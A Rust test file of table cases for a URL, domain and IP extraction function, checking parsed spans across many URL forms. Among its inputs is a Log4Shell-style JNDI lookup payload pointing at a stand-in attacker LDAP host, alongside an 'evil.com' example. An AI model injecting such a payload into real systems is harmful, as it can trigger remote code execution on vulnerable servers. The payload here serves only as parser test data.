//! Table cases: url.

use super::check;

#[test]
fn url() {
    check(
        "See http://example.com.",
        &["url:http://example.com@4..22", "domain:example.com@11..22"],
    );
    check(
        "(see https://example.com/a_(b))",
        &[
            "url:https://example.com/a_(b)@5..30",
            "domain:example.com@13..24",
        ],
    );
    check(
        "https://example.com/path?q=1&r=2#frag",
        &[
            "url:https://example.com/path?q=1&r=2#frag@0..37",
            "domain:example.com@8..19",
        ],
    );
    check(
        "HTTPS://Example.COM/CaseKept",
        &[
            "url:https://example.com/CaseKept@0..28",
            "domain:example.com@8..19",
        ],
    );
    check(
        "http://[2001:db8::1]:8080/index.html",
        &[
            "url:http://[2001:db8::1]:8080/index.html@0..36",
            "ipv6:2001:db8::1@8..19",
        ],
    );
    check(
        "http://[2001:DB8:0:0::1]/",
        &["url:http://[2001:db8::1]/@0..25", "ipv6:2001:db8::1@8..23"],
    );
    check(
        "http://[fe80::1%25eth0]/",
        &["url:http://[fe80::1%25eth0]/@0..24", "ipv6:fe80::1@8..15"],
    );
    check(
        "http://192.0.2.1:8080/x",
        &["url:http://192.0.2.1:8080/x@0..23", "ipv4:192.0.2.1@7..16"],
    );
    check(
        "ftp://files.example.org/pub/",
        &[
            "url:ftp://files.example.org/pub/@0..28",
            "domain:files.example.org@6..23",
        ],
    );
    check(
        "${jndi:ldap://attacker.example.com:1389/a}",
        &[
            "url:ldap://attacker.example.com:1389/a@7..41",
            "domain:attacker.example.com@14..34",
        ],
    );
    check(
        "http://user:pass@example.com/",
        &[
            "url:http://user:pass@example.com/@0..29",
            "domain:example.com@17..28",
        ],
    );
    check(
        "<https://example.com/>",
        &["url:https://example.com/@1..21", "domain:example.com@9..20"],
    );
    check(
        "\"http://example.com/a\"",
        &["url:http://example.com/a@1..21", "domain:example.com@8..19"],
    );
    check(
        "'http://example.com/a',",
        &["url:http://example.com/a@1..21", "domain:example.com@8..19"],
    );
    check("http://intranet/", &[]);
    check(
        "https://example.com/a.b.c/",
        &[
            "url:https://example.com/a.b.c/@0..26",
            "domain:example.com@8..19",
        ],
    );
    check(
        "visit https://example.com/?u=http://other.example.net/",
        &[
            "url:https://example.com/?u=http://other.example.net/@6..54",
            "domain:example.com@14..25",
        ],
    );
    check(
        "https://example.com/page).",
        &[
            "url:https://example.com/page@0..24",
            "domain:example.com@8..19",
        ],
    );
    check(
        "[https://example.com/x]",
        &[
            "url:https://example.com/x@1..22",
            "domain:example.com@9..20",
        ],
    );
    check(
        "https://sub.domain.example.co.uk/path",
        &[
            "url:https://sub.domain.example.co.uk/path@0..37",
            "domain:sub.domain.example.co.uk@8..32",
        ],
    );
    check(
        "https://foo.github.io/x",
        &[
            "url:https://foo.github.io/x@0..23",
            "domain:foo.github.io@8..21",
        ],
    );
    check(
        "http://evil.com/ and http://evil.com/",
        &[
            "url:http://evil.com/@0..16",
            "domain:evil.com@7..15",
            "url:http://evil.com/@21..37",
            "domain:evil.com@28..36",
        ],
    );
    check(
        "smb://192.0.2.8/share",
        &["url:smb://192.0.2.8/share@0..21", "ipv4:192.0.2.8@6..15"],
    );
    check(
        "https://example.com/%E3%81%82",
        &[
            "url:https://example.com/%E3%81%82@0..29",
            "domain:example.com@8..19",
        ],
    );
    check(
        "http://xn--n3h.com/",
        &["url:http://xn--n3h.com/@0..19", "domain:xn--n3h.com@7..18"],
    );
    check(
        "https://example.com:443",
        &[
            "url:https://example.com:443@0..23",
            "domain:example.com@8..19",
        ],
    );
    check("http://example.com:abc/", &["domain:example.com@7..18"]);
    check(
        "https://www.virustotal.com/gui/file/e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        &[
            "url:https://www.virustotal.com/gui/file/e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855@0..100",
            "domain:www.virustotal.com@8..26",
        ],
    );
    check("foo://example.com/", &["domain:example.com@6..17"]);
    check(
        "[https://example.com]",
        &["url:https://example.com@1..20", "domain:example.com@9..20"],
    );
    check(
        "'http://example.com';",
        &["url:http://example.com@1..19", "domain:example.com@8..19"],
    );
    check(
        "http://example.com:8080.",
        &[
            "url:http://example.com:8080@0..23",
            "domain:example.com@7..18",
        ],
    );
    check(
        "http:///http://example.com",
        &["url:http://example.com@8..26", "domain:example.com@15..26"],
    );
    check(
        "https://example.com/a*",
        &[
            "url:https://example.com/a@0..21",
            "domain:example.com@8..19",
        ],
    );
}
